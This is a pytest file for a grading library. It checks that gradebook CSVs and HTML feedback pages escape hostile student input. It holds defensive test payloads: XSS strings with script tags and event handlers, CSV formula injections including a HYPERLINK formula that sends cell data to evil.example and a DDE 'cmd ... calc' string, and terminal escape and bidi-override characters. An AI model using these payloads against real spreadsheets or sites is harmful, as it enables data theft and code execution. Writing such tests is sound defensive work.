"""Gradebook and pages of a grading run, with data that tries to become markup."""

from __future__ import annotations

import csv
import errno
import html.parser
import os
import re
from pathlib import Path
from typing import Any

import pytest
from lab_browser import chromium
from playwright.sync_api import Dialog

import streamlab
from streamlab.errors import StreamlabError
from streamlab.grading import reports, text
from streamlab.grading.beliefs import Beliefs, beliefs_of
from streamlab.grading.collect import collect
from streamlab.grading.records import Mark, MarkOutcome, Student
from streamlab.grading.reports import Beside, write_class_page, write_feedback, write_gradebook
from streamlab.labs.manifest import Lab
from streamlab.labs.results import VERSION, CheckResult, Outcome
from streamlab.labs.shared_guesses import SharedGuess, SharedGuesses

LAB = Lab(Path(__file__).parents[2] / "solutions" / "02_chunked_loop")
MOST = LAB.points

ATTACK = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'><svg/onload=alert(3)>{{7*7}}"
HIDDEN = "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x00 \u202eevil\u202c \x9b2J \x1b]unclosed"


def result(check: str = "huge", outcome: Outcome = "failed", **fields: Any) -> CheckResult:
    """A result of one of the lab's checks."""
    known = LAB.check(check)
    points = known.points if outcome == "passed" else 0
    return CheckResult(LAB.name, check, known.kind, points, known.points, outcome, **fields)


def mark(
    student: str = "ada",
    name: str = "Ada Lovelace",
    points: float = 0,
    outcome: MarkOutcome = "graded",
    detail: str = "",
    results: tuple[CheckResult, ...] = (),
    **fields: Any,
) -> Mark:
    """A student's mark."""
    return Mark(student, name, LAB.name, points, MOST, outcome, detail, results, **fields)


def all_results(outcome: Outcome = "passed", **others: Outcome) -> tuple[CheckResult, ...]:
    """A result for each check; `others` by id."""
    return tuple(result(check.id, others.get(check.id, outcome)) for check in LAB.checks)


class Page(html.parser.HTMLParser):
    """What a browser would make of a page: its text, its tags, its links."""

    def __init__(self, path: Path) -> None:
        super().__init__()
        self.source = path.read_text(encoding="utf-8")
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self.feed(self.source)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.text += "" if tag in ("b", "bdi", "code", "a") else " "
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        if self.tags[-1:] != ["style"]:
            self.text += data

    @property
    def words(self) -> str:
        """The text, each run of white space as one space."""
        return " ".join(self.text.split())


def feedback(folder: Path, of: Mark, **options: Any) -> Page:
    return Page(write_feedback(LAB, of, folder, **options))


def class_page(folder: Path, marks: list[Mark], **options: Any) -> Page:
    links = {"feedback": options.pop("feedback")} if "feedback" in options else {}
    write_class_page(LAB, marks, folder / "class.html", Beside(**options), **links)
    return Page(folder / "class.html")


def gradebook(folder: Path, *marks: Mark) -> list[dict[str, str]]:
    """The rows of a gradebook, as the csv module reads them."""
    path = folder / "gradebook.csv"
    write_gradebook(marks, path)
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, strict=True))


# Text


@pytest.mark.parametrize(
    ("harmful", "harmless"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'=1+1"),
        ("\r=1+1", "'=1+1"),
        (" \n =1+1", "'=1+1"),
        ("\x00=1+1", "'=1+1"),
        ("\x1b[0m=1+1", "'=1+1"),
        ("\u202e=1+1", "'=1+1"),
        ("\ufeff=1+1", "'=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("1-1=0", "1-1=0"),
        ("O'Brien", "O'Brien"),
        ("", ""),
    ],
)
def test_a_formula_is_a_text(harmful: str, harmless: str) -> None:
    """A formula becomes a text, even if cleaning moves it to the beginning."""
    assert text.cell(harmful) == harmless


def test_hidden_text_is_shown_on_a_page_and_left_out_of_a_table() -> None:
    """Escape codes go, control characters become pictures; an unclosed one swallows nothing."""
    assert text.visible(HIDDEN) == "red  \u2400 [U+202E]evil[U+202C]  unclosed"
    assert text.one_line(HIDDEN) == "red evil unclosed"
    assert text.visible("a\tb\r\nc\rd") == "a\tb\nc\nd"
    assert text.visible("\ud800") == "\ufffd"


def test_the_middle_of_a_long_text_is_left_out() -> None:
    """The beginning and the end of a text stay, with a mark for the gap."""
    shown = text.visible("a" * text.LONGEST + "z")
    assert shown.startswith("aaa") and shown.endswith("z") and "1 characters left out" in shown


@pytest.mark.parametrize("student", ["ada", "s1001", "ada.l-1_x"])
def test_a_plain_id_names_its_file(student: str) -> None:
    """A plain id is the name of its file."""
    assert text.file_name(student) == student


ODD = [
    *("Ada", "ADA", "a/../../b", "..", ".", "", "con", "nul.txt", "aux", "a.", "a b", "a%2fb"),
    *(
        "王小明",
        "\x00",
        "a\nb",
        "a" * 300,
        "-rf",
        "~",
        "ada~1",
        "com1",
        "é",
        "e\u0301",
        "\ud800",
        "a:b",
    ),
]


def test_file_names_are_safe_and_all_different() -> None:
    """Names differ for all ids, also on a file system that ignores case."""
    students = [*ODD, "ada", "a", "b", "a-b"]
    names = [text.file_name(student) for student in students]
    assert len({name.casefold() for name in names}) == len(students)
    for name in names:
        assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._~-]{0,99}", name), name
        assert not name.endswith(".") and not re.match(r"(?i)(con|nul|aux|com1)(\.|$)", name)


# The gradebook


def test_a_gradebook_reads_back(tmp_path: Path) -> None:
    """Each mark is one row, in the given order, with all its characters."""
    marks = [
        mark("s2", 'Grace "Amazing" Hopper, PhD', 17.5, detail="server.py\nin s2.zip"),
        mark("s1", "王小明", 20),
        mark("0042", "", 0, "not_attempted"),
    ]
    rows = gradebook(tmp_path, *marks)
    assert tuple(rows[0]) == reports.COLUMNS
    assert [row["student"] for row in rows] == ["s2", "s1", "0042"]
    assert [row["name"] for row in rows] == ['Grace "Amazing" Hopper, PhD', "王小明", ""]
    assert [row["points"] for row in rows] == ["17.5", "20", "0"]
    assert {row["max_points"] for row in rows} == {f"{MOST:g}"}
    assert {row["lab"] for row in rows} == {LAB.name}
    assert [row["outcome"] for row in rows] == ["graded", "graded", "not_attempted"]
    assert rows[0]["detail"] == "server.py in s2.zip"


def test_a_gradebook_keeps_to_rfc_4180(tmp_path: Path) -> None:
    """CR LF after every row, UTF-8 with a mark for Excel, no other line ends."""
    gradebook(tmp_path, mark(name="Jón\nÞór"), mark("b"))
    data = (tmp_path / "gradebook.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbfstudent,name,lab,points,max_points,outcome,detail\r\n")
    assert data.count(b"\r\n") == data.count(b"\n") == data.count(b"\r") == 3
    assert data.endswith(b"\r\n") and "Jón Þór".encode() in data


def test_a_gradebook_holds_no_formula(tmp_path: Path) -> None:
    """No id, name or detail is a formula, also with hidden characters; points are numbers."""
    formula = '=HYPERLINK("http://evil.example?"&A1,"x")'
    (row,) = gradebook(
        tmp_path, mark(f"@{HIDDEN}", formula, 3, detail=f"-2+3+cmd|' /C calc'!A0{HIDDEN}")
    )
    assert row["name"] == "'" + formula
    assert row["student"].startswith("'@red") and row["detail"].startswith("'-2+3")
    assert row["points"] == "3"
    assert not any(char in cell for cell in row.values() for char in "\x00\x1b\u202e\x9b")


@pytest.mark.parametrize(
    ("of", "points"),
    [
        (mark(outcome="missing"), ""),
        (mark(outcome="grader_fault", points=12, results=(result(outcome="grader_fault"),)), ""),
        (mark(outcome="could_not_run", detail="a damaged zip"), ""),
        (mark(outcome="could_not_run", results=all_results("could_not_run")), "0"),
        (mark(outcome="not_attempted", results=all_results("not_attempted")), "0"),
        (mark(outcome="graded", points=0), "0"),
    ],
)
def test_nobodys_zero_is_empty(tmp_path: Path, of: Mark, points: str) -> None:
    """Points are a number only if the checks gave one."""
    assert gradebook(tmp_path, of)[0]["points"] == points


def test_an_interrupted_run_leaves_the_old_gradebook(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A gradebook is written whole or not at all, and leaves no other file."""
    gradebook(tmp_path, mark("old"))

    def interrupted(*_: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        write_gradebook([mark("new")], tmp_path / "gradebook.csv")
    assert [each.name for each in tmp_path.iterdir()] == ["gradebook.csv"]
    assert "old" in (tmp_path / "gradebook.csv").read_text()


def test_a_full_disk_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """It says which file, and what to do."""

    def full(*_: object) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "replace", full)
    with pytest.raises(StreamlabError, match=r"gradebook\.csv: the disk is full") as caught:
        write_gradebook([mark()], tmp_path / "gradebook.csv")
    assert "\n" not in str(caught.value)
    assert list(tmp_path.iterdir()) == []


def test_a_folder_in_the_way_is_one_line(tmp_path: Path) -> None:
    """A file that can't be made is an error of this library."""
    (tmp_path / "gradebook.csv").mkdir()
    with pytest.raises(StreamlabError, match="could not write"):
        write_gradebook([mark()], tmp_path / "gradebook.csv")


# A student's page


def test_a_student_reads_what_happened(tmp_path: Path) -> None:
    """Points, each check, and of a failed one: promise, evidence, meaning, curl, the first hint."""
    failed = result(
        evidence="GET /a.bin: cut short\nMemoryError",
        cause="whole_file",
        curl="curl http://h/a",
        promise="cup",
        seed=4711,
    )
    passed = result("bytes", "passed", evidence="all of it", seed=4711)
    page = feedback(tmp_path, mark(points=3, results=(passed, failed), submission="ab" * 32))
    assert f"3 of {MOST:g} points, 1 of 2 checks passed" in page.words
    assert "Every byte arrives 3 of 3 passed" in page.words
    assert "Larger than memory 0 of 3 failed" in page.words
    for each in (*failed.evidence.split("\n"), LAB.cause_text("whole_file"), failed.curl):
        assert each in page.text
    assert f"The lab's text says {LAB.promises['cup'].text}" in page.words
    first, second, *_ = LAB.hints("huge", "whole_file")
    assert first in page.text and second not in page.text
    assert "all of it" not in page.text
    assert "Ada Lovelace" in page.text and "ab" * 32 in page.text


def test_the_seed_is_shown_on_request_only(tmp_path: Path) -> None:
    """Without the seed no student can draw the same files before others are graded."""
    of = mark(results=(result(seed=471147),))
    assert "471147" not in feedback(tmp_path, of).source
    assert "check 02 --seed 471147" in feedback(tmp_path, of, show_seed=True).words


@pytest.mark.parametrize(
    ("of", "words", "not_there"),
    [
        (mark(outcome="missing"), "Nothing was handed in. No submission was found", "0 of 20"),
        (
            mark(outcome="not_attempted", results=all_results("not_attempted")),
            "is still the stub",
            "All checks passed",
        ),
        (
            mark(outcome="could_not_run", detail="ada.zip: damaged"),
            "can't be read, so no check was run",
            "0 of 20",
        ),
        (
            mark(outcome="could_not_run", results=all_results("could_not_run")),
            "Your program did not run, so no check",
            "can't be read",
        ),
        (
            mark(outcome="grader_fault", points=17, results=all_results(huge="grader_fault")),
            "That is a fault of the check, not of your program",
            "17 of 20",
        ),
        (mark(points=MOST, results=all_results()), "All checks passed.", "What happened"),
    ],
)
def test_every_outcome_is_told_plainly(
    tmp_path: Path, of: Mark, words: str, not_there: str
) -> None:
    """Each outcome has its words, and none says anything false."""
    page = feedback(tmp_path, of)
    assert words in page.words and not_there not in page.words
    if text.points_of(of) is None:
        assert "open of 20 points: none are entered yet" in page.words


def test_the_reason_of_an_unreadable_submission_is_shown(tmp_path: Path) -> None:
    """The student has to know what to hand in instead."""
    page = feedback(tmp_path, mark(outcome="could_not_run", detail="ada.zip: damaged"))
    assert "ada.zip: damaged" in page.text and "server.py" in page.text


def test_how_a_check_broke_is_not_for_the_student(tmp_path: Path) -> None:
    """It is for the instructor, on the class page."""
    broken = result(outcome="grader_fault", evidence="Traceback\nOSError: secret path")
    of = mark(outcome="grader_fault", results=(broken,))
    assert "secret path" not in feedback(tmp_path, of).source
    assert "Larger than memory: OSError: secret path" in class_page(tmp_path, [of]).words


def test_a_story_that_checks_share_is_told_once(tmp_path: Path) -> None:
    """A program that does not start says so once, not nine times."""
    one = [
        result(check.id, "could_not_run", evidence="line 12: invalid syntax")
        for check in LAB.checks
    ]
    page = feedback(tmp_path, mark(outcome="could_not_run", results=tuple(one)))
    assert page.text.count("line 12: invalid syntax") == 1
    assert f"What happened {len(LAB.checks)} checks" in page.words


@pytest.fixture
def attacker() -> Mark:
    """A student all of whose texts try to become markup, or to hide something."""
    evil = f"{ATTACK}{HIDDEN}"
    return mark(
        f"x{ATTACK}",
        evil,
        outcome="graded",
        detail=evil,
        results=(
            result(evidence=evil, curl=evil, cause="whole_file"),
            result("bytes", evidence=evil, cause=ATTACK),
            result("wire", "could_not_run", evidence=evil),
        ),
        submission=ATTACK,
    )


PLAIN_TAGS = {
    *("html", "head", "meta", "title", "style", "body", "header", "footer", "section", "div", "p"),
    *(
        "h1",
        "h2",
        "h3",
        "h4",
        "b",
        "i",
        "small",
        "span",
        "bdi",
        "a",
        "code",
        "pre",
        "table",
        "thead",
    ),
    *("tbody", "tr", "th", "td", "ul", "li", "details", "summary"),
}


def is_harmless(page: Page) -> bool:
    """Whether a page has nothing but text in it, loads nothing, and hides nothing."""
    tags = set(page.tags) <= PLAIN_TAGS
    handlers = any(name.startswith("on") for name, _ in page.attributes)
    links = [value for name, value in page.attributes if name in ("href", "src", "action")]
    local = all(re.fullmatch(r"#[a-z]+|feedback/[A-Za-z0-9._~-]+\.html", link) for link in links)
    loads = re.search(r"@import|url\(|https?://(?!127\.0\.0\.1|h/)", page.source)
    hidden = set("\x00\x1b\x9b\u202e\u202c\r") & set(page.source)
    return tags and local and not handlers and not loads and not hidden


def test_no_text_of_a_student_becomes_markup(tmp_path: Path, attacker: Mark) -> None:
    """It is there to be read, as it was written, on both kinds of page."""
    pages = [
        feedback(tmp_path / "feedback", attacker),
        feedback(tmp_path / "feedback", mark("b", outcome="could_not_run", detail=ATTACK)),
        class_page(
            tmp_path,
            [attacker, mark("m", ATTACK, outcome="missing", detail=ATTACK)],
            unmatched=[ATTACK],
        ),
    ]
    for page in pages:
        assert is_harmless(page)
        assert ATTACK in page.text


@pytest.mark.parametrize(
    "source",
    [
        "<p><script>1</script>",
        "<p onclick=x>",
        '<a href="https://evil.example/">',
        '<a href="javascript:1">',
        "<style>@import 'x'</style>",
        "<p>\u202e",
    ],
)
def test_a_harmful_page_is_seen(tmp_path: Path, source: str) -> None:
    """The function that the test above uses refuses harmful pages."""
    (tmp_path / "page.html").write_text(source, encoding="utf-8")
    assert not is_harmless(Page(tmp_path / "page.html"))


def test_templates_escape_by_themselves(tmp_path: Path) -> None:
    """Templates escape by default."""
    template = reports._templates().from_string("<b title='{{ x }}'>{{ x }}</b>")
    assert (
        template.render(x="<'\u202e\x1b[1m>")
        == "<b title='&lt;&#39;[U+202E]&gt;'>&lt;&#39;[U+202E]&gt;</b>"
    )


# The class


def a_class(count: int) -> list[Mark]:
    """Some students of every kind."""
    marks = []
    for number in range(count):
        who = (f"s{number:03}", f"Student {number:03}")
        match number % 10:
            case 7:
                marks.append(mark(*who, outcome="missing", detail="no file begins with the id"))
            case 8:
                marks.append(mark(*who, outcome="could_not_run", detail="a damaged zip"))
            case 9:
                results = all_results("passed", wire="grader_fault")
                marks.append(mark(*who, points=17, outcome="grader_fault", results=results))
            case few:
                failed = [check.id for check in LAB.checks][:few]
                results = tuple(
                    result(check.id, "failed", cause="whole_file")
                    if check.id in failed
                    else result(check.id, "passed")
                    for check in LAB.checks
                )
                points = sum(each.points for each in results)
                marks.append(mark(*who, points=points, results=results))
    return marks


def test_the_class_at_a_glance(tmp_path: Path) -> None:
    """The page has the number of students, the median, and those that need the instructor."""
    page = class_page(tmp_path, a_class(40), unmatched=["wombat.zip"])
    assert "40 students" in page.words and "28 of 40 have points" in page.words
    for words in (
        "4 nothing handed in",
        "4 could not run",
        "4 a check broke",
        "1 not on the roster",
    ):
        assert words in page.words
    assert "wombat.zip" in page.words and page.words.count("a damaged zip") == 4
    assert page.words.count("no file begins with the id") == 4


def test_bars_count_everybody_once() -> None:
    """Each student who has points is in one bar, also at both ends and between two points."""
    bars = reports._bars([0, 20, 20, 7.5, 7], 20)
    assert sum(bar.count for bar in bars) == 5 and len(bars) == 21
    assert (bars[0].count, bars[7].count, bars[20].count) == (1, 2, 2)
    assert bars[20].share == 100 and bars[0].share == 50
    assert len(reports._bars([100, 3], 100)) == 21


def test_misconceptions_by_how_many_have_them(tmp_path: Path) -> None:
    """The most common first; a student who has one in two checks counts once."""
    marks = [
        mark("a", results=(result("huge", cause="whole_file"), result("hold", cause="whole_file"))),
        mark("b", results=(result("drop", cause="leaks"), result("huge", cause="whole_file"))),
        mark("c", results=(result("bytes", "passed", cause="leaks"), result("wire", cause="new"))),
    ]
    found = reports._misconceptions(LAB, marks)
    assert [(one.cause, [m.student for m in one.marks]) for one in found] == [
        ("whole_file", ["a", "b"]),
        ("leaks", ["b"]),
        ("new", ["c"]),
    ]
    page = class_page(tmp_path, marks)
    assert "2 whole file The server ran out of memory" in page.words
    assert "Seen in: Larger than memory, Thirty-two at once" in page.words


def test_the_map_has_words_as_well_as_colours(tmp_path: Path) -> None:
    """Best first, points in the cells, and a legend; a broken check leaves the sum open."""
    odd: dict[str, Outcome] = {"huge": "failed", "wire": "grader_fault", "hold": "not_attempted"}
    marks = [
        mark("worse", "Worse", 3, results=all_results("failed", bytes="passed")),
        mark("broken", "Broken", 9, "grader_fault", results=all_results(**odd)),
        mark("best", "Best", MOST, results=all_results()),
    ]
    page = class_page(tmp_path, marks)
    rows = re.findall(r"<tr><th scope=\"row\">.*?</tr>", page.source, re.DOTALL)
    cells = [re.findall(r"<td[^>]*>([^<]*)</td>", row) for row in rows]
    assert cells == [
        ["20", "3", "3", "2", "1", "2", "3", "3", "2", "1"],
        ["3", "3", *["0"] * 8],
        ["open", "3", "0", "stub", "1", "2", "3", "fault", "2", "1"],
    ]
    for words in (
        "passed, with its points",
        "failed",
        "not attempted",
        "could not run",
        "the check broke",
    ):
        assert words in page.words
    assert "wire 50 %" in page.words, "the broken check does not count against it"


def test_links_lead_to_the_pages_of_students(tmp_path: Path) -> None:
    """Links work for ids that are no file names; without a folder of pages there are none."""
    marks = [
        mark(student, f"n{number}", results=all_results()) for number, student in enumerate(ODD)
    ]
    for each in marks:
        write_feedback(LAB, each, tmp_path / "feedback")
    page = class_page(tmp_path, marks)
    links = {value for name, value in page.attributes if name == "href"}
    assert len(links) == len(ODD) and all((tmp_path / link).is_file() for link in links)
    assert "href" not in dict(class_page(tmp_path, marks, feedback="").attributes)


@pytest.mark.parametrize("count", [0, 1, 8, 400])
def test_classes_of_every_size(tmp_path: Path, count: int) -> None:
    """An empty class is a page, and a large one is no flood: long lists are folded."""
    page = class_page(tmp_path, a_class(count))
    assert is_harmless(page)
    assert f"{count} student{'' if count == 1 else 's'}" in page.words
    assert page.tags.count("details") == (0 if count < 100 else 4)
    assert len(page.source) < 500_000


def test_the_page_says_of_what_and_when_it_is(tmp_path: Path) -> None:
    page = class_page(tmp_path, a_class(2), checks="abcdef0123456789")
    assert re.search(
        rf"Pour the River Through a Cup · Lab 02 {LAB.title} "
        rf"Written \d{{4}}-\d\d-\d\d \d\d:\d\d:\d\d [+-]\d\d:\d\d by "
        rf"streamlab {re.escape(streamlab.__version__)}, checks {VERSION} \(abcdef012345\)\.",
        page.words,
    )


def test_people_of_one_name_are_said_to_be_so(tmp_path: Path) -> None:
    """Wherever they are named; accents and capitals make no other name of it, for a reader."""
    failed = result(cause="whole_file")
    marks = [
        mark("j1", "Jo King", results=(failed,)),
        mark("j2", "jo  king", outcome="missing"),
        mark("zoe", "Zoe Ray"),
        mark("a", ""),
        mark("b", ""),
    ]
    words = class_page(tmp_path, marks).words
    assert words.count("(j1, one of 2 of this name)") == 2  # in the misconceptions, and the map
    assert words.count("(j2, one of 2 of this name)") == 1
    assert words.count("of this name") == 3


def test_not_on_the_roster_is_said_of_those_alone(tmp_path: Path) -> None:
    """What may be somebody's of the roster stands below another heading."""
    for name in ("stranger.py", "Anne Lee.py", "submission_7", "Jo King.py"):
        (tmp_path / "in" / name).parent.mkdir(exist_ok=True)
        (tmp_path / "in" / name).write_text("x")
    class_ = [Student("ann", "Ann Lee"), Student("j1", "Jo King"), Student("j2", "Jo King")]
    found = collect(tmp_path / "in", LAB, class_)
    assert [each.partition(":")[0] for each in found.strangers] == ["stranger.py"]
    assert len(found.unmatched) == 4
    others = [each for each in found.unmatched if each not in found.strangers]
    page = class_page(tmp_path, a_class(2), unmatched=found.strangers, in_doubt=others)
    heading, _, below = page.words.partition("Not on the roster 1")
    strangers, _, doubts = below.partition("In doubt 3")
    assert "stranger.py" in strangers and "Jo King.py" not in strangers
    assert all(name in doubts for name in ("Anne Lee.py", "submission_7", "Jo King.py"))
    assert "1 not on the roster 3 in doubt" in heading
    assert "These need you: not on the roster, in doubt." in heading


# What the class believes


def shared(number: int, *guesses: tuple[str, str, str], row: str = "10 clients") -> SharedGuesses:
    """What a student shares: guesses with their outcomes and what was measured, by row."""
    own = (SharedGuess("01", f"{row}{at or ''}", *texts) for at, texts in enumerate(guesses))
    return SharedGuesses(f"{number:032x}", tuple(own))


def test_the_page_has_what_the_class_believes(tmp_path: Path) -> None:
    """What most have missed first, with the question, the counts and the guesses, and no name."""
    beliefs = beliefs_of(
        [
            shared(1, ("64 MiB", "640 MiB", "off"), ("the kernel", "the kernel", "hit")),
            shared(2, ("32 MiB", "640 MiB", "off"), ("the kernel", "the kernel", "hit")),
            shared(3, ("600 MiB", "641 MiB", "near"), ("the server", "the kernel", "off")),
            shared(4, ("640 MiB", "640 MiB", "hit"), ("a", "b", "off"), ("rare", "x", "off")),
        ],
        {("01", "10 clients"): "By how many MiB does the server grow?"},
    )
    page = class_page(tmp_path, [mark("z77", "Zoe Ash", results=all_results())], beliefs=beliefs)
    assert "4 students have shared their guesses" in page.words
    heads = "Question Off Near Hit The class said Measured"
    first = "By how many MiB does the server grow? Chapter 01: 10 clients 2 1 1 median 332 MiB"
    second = "10 clients1 Chapter 01 2 0 2 the kernel (2 of 4) the kernel"
    assert re.search(
        rf"{heads} {re.escape(first)}, half from .* 640 MiB .*{re.escape(second)}", page.words
    )
    assert "1 question is left out, because fewer than 3 students have answered." in page.words
    assert "rare" not in page.words
    table = page.source.partition('class="beliefs"')[2].partition("</table>")[0]
    assert "Zoe Ash" in page.source and "Zoe Ash" not in table and "z77" not in table


@pytest.mark.parametrize(("count", "words"), [(1, "1 student has shared"), (2, "2 students have")])
def test_of_few_students_no_guess_is_shown(tmp_path: Path, count: int, words: str) -> None:
    beliefs = beliefs_of([shared(number, ("9 MiB", "8 MiB", "off")) for number in range(count)])
    page = class_page(tmp_path, a_class(3), beliefs=beliefs)
    assert words in page.words and "shown from 3 students on" in page.words
    assert "MiB" not in page.words.partition("Guesses")[2].partition("Checks by student")[0]
    assert 'class="beliefs"' not in page.source


def test_where_nobody_shares_nothing_is_said_of_guesses(tmp_path: Path) -> None:
    page = class_page(tmp_path, a_class(3))
    assert "Guesses" not in page.words and 'class="beliefs"' not in page.source


def evil_beliefs() -> Beliefs:
    """A class all of whose texts try to become markup, or to hide something."""
    evil = f"{ATTACK}{HIDDEN}"
    guesses = (
        (evil, evil, "off"),
        (f"1 {evil}", f"2 {evil}", "hit"),
        ("w" * 200, "y" * 200, "off"),
    )
    return beliefs_of([shared(number, *guesses, row=evil[:150]) for number in range(3)])


def test_no_guess_becomes_markup(tmp_path: Path) -> None:
    """Not the row, nor what was guessed or measured: they are there to be read."""
    page = class_page(tmp_path, a_class(3), beliefs=evil_beliefs())
    assert is_harmless(page)
    told = page.words.partition("Guesses")[2]
    assert told.count(ATTACK) >= 3 and "w" * 200 in told and "evil" in told


# In a browser


@pytest.mark.needs("chromium")
def test_printed_everything_folded_is_open(tmp_path: Path) -> None:
    write_class_page(LAB, a_class(400), tmp_path / "class.html")
    visible = "[...document.querySelectorAll('details > ul, details > table')]"
    visible += ".map(each => each.checkVisibility({contentVisibilityAuto: true}))"
    with chromium() as browser:
        tab = browser.new_page()
        tab.goto((tmp_path / "class.html").as_uri())
        assert tab.evaluate(visible) == [False] * 4
        tab.emulate_media(media="print")
        # Chromium shows what was folded when it draws the next frame.
        tab.wait_for_function(f"{visible}.every(Boolean)")
        assert tab.evaluate(visible) == [True] * 4


@pytest.mark.needs("chromium")
def test_pages_in_a_browser(tmp_path: Path, attacker: Mark) -> None:
    """No script runs, only the page is requested, and it fits on a phone."""
    wide = result(evidence="x" * 5000, curl="curl " + "y" * 500, cause="whole_file")
    marks = [*a_class(40), attacker, mark("wide", "W" * 200, 3, results=(wide,))]
    beside = Beside([ATTACK, "u" * 300], beliefs=evil_beliefs())
    write_class_page(LAB, marks, tmp_path / "class.html", beside)
    pages = [tmp_path / "class.html"]
    pages += [
        write_feedback(LAB, each, tmp_path / "feedback") for each in (*marks[7:10], *marks[-2:])
    ]
    asked: list[str] = []
    said: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        said.append(dialog.message)
        dialog.dismiss()

    with chromium() as browser:
        for width in (1280, 360):
            context = browser.new_context(viewport={"width": width, "height": 800})
            tab = context.new_page()
            tab.on("request", lambda request: asked.append(request.url))
            tab.on("dialog", dismiss)
            tab.on("console", lambda message: said.append(message.text))
            tab.on("pageerror", lambda error: said.append(str(error)))
            for page in pages:
                tab.goto(page.as_uri())
                across = tab.evaluate("document.documentElement.scrollWidth")
                assert across <= width, f"{page.name} is {across} wide on {width}"
            context.close()
    assert said == []
    assert set(asked) == {page.as_uri() for page in pages}


def test_why_a_program_did_not_start_is_told_once(tmp_path: Path) -> None:
    evidence = "server.py ended at its start. It wrote:\n\nNo module named 'nothere'"
    results = tuple(result(check.id, "could_not_run", evidence=evidence) for check in LAB.checks)
    detail = " ".join(evidence.split())
    words = class_page(
        tmp_path, [mark(outcome="could_not_run", detail=detail, results=results)]
    ).words
    assert words.count("ended at its start") == 1
